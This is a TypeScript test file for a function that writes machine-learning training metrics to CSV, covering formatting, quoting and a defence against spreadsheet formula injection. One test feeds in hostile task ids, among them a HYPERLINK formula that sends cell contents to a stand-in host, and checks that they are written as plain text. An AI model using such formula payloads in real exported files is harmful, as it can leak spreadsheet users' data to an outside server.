import { describe, expect, it } from 'vitest';
import type { TaskSpec } from '../model';
import type { MetricPoint } from '../protocol';
import { metricsCsv } from './metricsCsv';

const tasks = [
  { id: 'a', name: 'A', kind: 'binary', classes: 2 },
  { id: 'r', name: 'R', kind: 'regression', classes: 1 },
] as TaskSpec[];

const point = (step: number, total: number, a: number[], r: number[], w: number[]): MetricPoint => ({
  step,
  totalLoss: total,
  tasks: [
    { trainLoss: a[0], valLoss: a[1], metric: a[2] },
    { trainLoss: r[0], valLoss: r[1], metric: r[2] },
  ],
  weights: w,
  conflict: null,
});

describe('metricsCsv', () => {
  it('writes a header and one row per point', () => {
    const csv = metricsCsv(tasks, [point(0, 1.5, [0.7, 0.75, 0.5], [0.8, 0.9, 0.95], [1, 1]), point(10, 0.25, [0.1, 0.2, 0.9], [0.15, 0.3, 0.5], [0.5, 2])]);
    expect(csv).toBe(
      'step,total_loss,a_train_loss,a_val_loss,a_accuracy,a_weight,r_train_loss,r_val_loss,r_rmse,r_weight\n' +
        '0,1.5,0.7,0.75,0.5,1,0.8,0.9,0.95,1\n' +
        '10,0.25,0.1,0.2,0.9,0.5,0.15,0.3,0.5,2\n',
    );
  });
  it('leaves non-finite numbers empty and quotes fields that need it', () => {
    const odd = [{ id: 'x,"y"', name: 'X', kind: 'binary', classes: 2 }] as TaskSpec[];
    const csv = metricsCsv(odd, [{ step: 1, totalLoss: NaN, tasks: [{ trainLoss: Infinity, valLoss: 1, metric: 0.5 }], weights: [1], conflict: null }]);
    const [head, row] = csv.trim().split('\n');
    expect(head).toBe('step,total_loss,"x,""y""_train_loss","x,""y""_val_loss","x,""y""_accuracy","x,""y""_weight"');
    expect(row).toBe('1,,,1,0.5,1');
  });
});

describe('metricsCsv with task ids from a hostile link or file', () => {
  it('writes formula-like ids as plain text', () => {
    const evil = ['=HYPERLINK("http://x.test/?"&A1,"click")', '@SUM(A1)', '+1+1', '-1+1'].map((id) => ({ id, name: id, kind: 'regression', classes: 1 }) as TaskSpec);
    const header = metricsCsv(evil, []).split('\n')[0];
    // Split on the commas outside quotes: no header cell may start with a formula character.
    const cells = header.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '')).filter(Boolean);
    expect(cells.length).toBe(2 + 4 * evil.length);
    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
    expect(header).toContain(`"'=HYPERLINK(""http://x.test/?""&A1,""click"")_train_loss"`);
    expect(header).toContain("'@SUM(A1)_val_loss");
  });
});
